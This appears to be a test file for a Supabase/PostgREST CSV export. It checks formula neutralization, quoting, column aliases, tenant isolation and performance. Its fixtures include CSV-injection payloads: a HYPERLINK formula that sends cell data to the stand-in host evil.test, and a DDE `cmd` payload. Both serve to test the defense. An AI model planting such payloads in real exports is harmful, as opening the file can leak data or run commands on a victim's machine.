// `.csv()` through the real PostgREST: the order of the selection, quotes, nulls, and names that a spreadsheet would run.
import type { SupabaseClient } from '@supabase/supabase-js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { withClient } from '../../local/platform/postgres/client.ts';
import { type Project, startProject, type Tenant } from '../support/project.ts';

let project: Project;
let tenant: Tenant;
let other: Tenant;
let client: SupabaseClient;
let operator: SupabaseClient;
let campaignId: string;

const nasty: [name: string, company: string | null][] = [
  ['=HYPERLINK("http://evil.test?x="&A1,"Click")', "=cmd|'/c calc'!A0"],
  ['+31 20 123', '-2+3'],
  ['@SUM(1,2)', '\t=1+1'],
  ['\r=1+1', '＝1+1'],
  ['Zoë "Zed" Ångström, MD', 'line one\nline two'],
  ['plain', null],
  ['', ' spaced '],
];

beforeAll(async () => {
  project = await startProject({ functions: [], simulator: false });
  tenant = await project.createTenant('Lakeside');
  other = await project.createTenant('=Harbour');
  campaignId = await project.createCampaign(tenant.clientId, null, { name: '-5 percent' });
  const foreign = await project.createCampaign(other.clientId, null, { name: 'Foreign' });
  for (const [index, [name, company]] of nasty.entries()) {
    await project.sql(
      `insert into public.synced_leads (client_id, campaign_id, email, first_name, company_name, payload)
       values ($1, $2, $3, $4, $5, $6)`,
      [tenant.clientId, campaignId, `lead${index}@shop.test`, name, company, { score: -5, note: '=x' }],
    );
  }
  await project.sql(
    `insert into public.synced_leads (client_id, campaign_id, email) values ($1, $2, 'secret@harbour.test')`,
    [other.clientId, foreign],
  );
  client = await project.signIn(tenant);
  operator = await project.signIn(await project.createUser('operator', null));
  // A function of the Data API that returns rows, one that returns an object, and a number below nothing.
  await project.sql(`
    create function public.csv_rows() returns table (name text, amount numeric, day date) language sql stable set search_path = ''
      as $$ values ('=1', -5.5, '2026-11-02'::date), ('b', null, null) $$;
    create function public.csv_object() returns jsonb language sql stable set search_path = ''
      as $$ select '{"moved": -3, "name": "+a"}'::jsonb $$;
    create function public.csv_number() returns integer language sql stable set search_path = '' as 'select -7';
    grant execute on function public.csv_rows(), public.csv_object(), public.csv_number() to authenticated;
    notify pgrst, 'reload schema'`);
  await project.eventually(
    async () => (await client.rpc('csv_rows')).error === null,
    'PostgREST knows the functions',
  );
});
afterAll(() => project?.stop());

async function lines(question: PromiseLike<{ data: unknown; error: unknown }>): Promise<string[]> {
  const { data, error } = await question;
  expect(error).toBeNull();
  return String(data).split('\n');
}

describe('a table as CSV', () => {
  it('makes every cell harmless that a spreadsheet would take for a formula, and quotes what needs it', async () => {
    const { data } = await client.from('synced_leads').select('email, first_name, company_name').order(
      'email',
    ).csv();
    expect(data).toBe([
      'email,first_name,company_name',
      `lead0@shop.test,"'=HYPERLINK(""http://evil.test?x=""&A1,""Click"")",'=cmd|'/c calc'!A0`,
      `lead1@shop.test,'+31 20 123,'-2+3`,
      `lead2@shop.test,"'@SUM(1,2)",'\t=1+1`,
      `lead3@shop.test,"'\r=1+1",'＝1+1`,
      `lead4@shop.test,"Zoë ""Zed"" Ångström, MD","line one\nline two"`,
      'lead5@shop.test,plain,',
      'lead6@shop.test,""," spaced "',
    ].join('\n'));
  });

  it('keeps the order of the selection, new names for columns, and numbers as numbers', async () => {
    const question = client.from('synced_leads').select(
      'status:lead_status, sent_count, payload, who:first_name, id:email',
    )
      .eq('email', 'lead1@shop.test').csv();
    expect(await lines(question)).toEqual([
      'status,sent_count,payload,who,id',
      `not_yet_emailed,0,"{""note"": ""=x"", ""score"": -5}",'+31 20 123,lead1@shop.test`,
    ]);
  });

  it('answers an empty result with nothing, and a page with its own line of names', async () => {
    const { data, error } = await client.from('synced_leads').select('email').eq('email', 'nobody').csv();
    // supabase-js makes null of an empty answer.
    expect([data, error]).toEqual([null, null]);
    expect(await lines(client.from('synced_leads').select('email').order('email').range(2, 3).csv()))
      .toEqual(['email', 'lead2@shop.test', 'lead3@shop.test']);
  });

  it('says that it is CSV in UTF-8', async () => {
    const { data: { session } } = await client.auth.getSession();
    const response = await fetch(`${project.stack.apiUrl}/rest/v1/clients?select=name`, {
      headers: {
        apikey: project.stack.publishableKey,
        authorization: `Bearer ${session?.access_token}`,
        accept: 'text/csv',
      },
    });
    expect([response.status, response.headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
    expect(await response.text()).toBe('name\nLakeside');
  });
});

describe('views and functions as CSV', () => {
  it('a view: texts harmless, rates and counts untouched', async () => {
    const question = client.from('client_campaigns').select('name, leads, reply_rate, enough_signal').csv();
    expect(await lines(question)).toEqual(['name,leads,reply_rate,enough_signal', `'-5 percent,7,,false`]);
    expect(
      await lines(operator.from('operator_clients').select('client_name, leads').order('client_name').csv()),
    )
      .toEqual(['client_name,leads', `'=Harbour,1`, 'Lakeside,7']);
  });

  it('a function that returns rows, an object, or one number', async () => {
    expect(await lines(client.rpc('csv_rows').csv())).toEqual([
      'name,amount,day',
      `'=1,-5.5,2026-11-02`,
      'b,,',
    ]);
    expect(await lines(client.rpc('csv_rows').select('day, name').csv())).toEqual([
      'day,name',
      `2026-11-02,'=1`,
      ',b',
    ]);
    expect((await lines(client.rpc('csv_object').csv())).at(-1)).toContain(`'+a`);
    expect((await lines(client.rpc('csv_number').csv())).at(-1)).toBe('-7');
  });
});

describe('CSV and who may read', () => {
  it('shows a client its own rows, an operator all, and anon none', async () => {
    expect(await lines(client.from('clients').select('name').csv())).toEqual(['name', 'Lakeside']);
    expect(await lines(operator.from('clients').select('name').order('name').csv())).toEqual([
      'name',
      `'=Harbour`,
      'Lakeside',
    ]);
    const foreign = await client.from('synced_leads').select('email').eq('client_id', other.clientId).csv();
    expect(foreign.data).toBeNull();
    expect((await client.from('operator_health').select('*').csv()).data).toBeNull();
    const { data, error } = await project.browser().from('synced_leads').select('email').csv();
    expect([data, error?.code]).toEqual([null, '42501']);
  });

  it('cannot be called as a function', async () => {
    const { error } = await client.rpc('csv', { entry: {} });
    expect(error?.code).toBe('PGRST202');
  });
});

it('makes a thousand rows in well under a second', async () => {
  await project.sql(
    `insert into public.synced_leads (client_id, campaign_id, email, first_name)
     select $1, $2, 'many' || n || '@shop.test', repeat('long text, ', 27) from generate_series(1, 1100) as n`,
    [tenant.clientId, campaignId],
  );
  const started = performance.now();
  const rows = await lines(
    client.from('synced_leads').select('email, first_name').like('email', 'many%').csv(),
  );
  expect(rows.length).toBe(1001);
  expect(performance.now() - started).toBeLessThan(3000);
  console.log(`1,000 rows of 300 bytes as CSV: ${Math.round(performance.now() - started)} ms`);
});

it('is what PostgREST since 12.2 asks of the database: the aggregate over the selected columns, as the person', async () => {
  const { rows } = await withClient(project.stack.adminDbUrl, async (connection) => {
    await connection.query('begin read only');
    await connection.query(
      `select set_config('request.jwt.claims', $1, true), set_config('role', 'authenticated', true)`,
      [
        JSON.stringify({ role: 'authenticated', user_role: 'client', client_id: tenant.clientId }),
      ],
    );
    const asked = await connection.query<{ total: string; body: string }>(`
      with pgrst_source as (
        select "public"."synced_leads"."company_name", "public"."synced_leads"."sent_count" as "sent", "public"."synced_leads"."email"
        from "public"."synced_leads" where "public"."synced_leads"."email" in ('lead0@shop.test', 'secret@harbour.test')
      )
      select pg_catalog.count(_postgrest_t) as total, "public"."csv"(_postgrest_t) as body
      from (select * from pgrst_source) _postgrest_t`);
    await connection.query('rollback');
    return asked;
  });
  expect(rows).toEqual([{
    total: '1',
    body: `company_name,sent,email\n'=cmd|'/c calc'!A0,0,lead0@shop.test`,
  }]);
});

it('is registered as PostgREST looks for handlers: an aggregate of an exposed schema from anyelement to a media type', async () => {
  expect(
    await project.sql(`
      select p.proname::text as name, p.proargtypes[0]::regtype::text as takes, t.typname::text as makes
      from pg_catalog.pg_proc as p
      join pg_catalog.pg_aggregate as a on a.aggfnoid = p.oid
      join pg_catalog.pg_type as t on t.oid = p.prorettype and t.typbasetype <> 0
      where p.pronamespace = 'public'::regnamespace and p.pronargs = 1 and t.typname ~* '^[A-Za-z0-9.-]+/[A-Za-z0-9.+-]+$'`),
  ).toEqual([{ name: 'csv', takes: 'anyelement', makes: 'text/csv' }]);
});
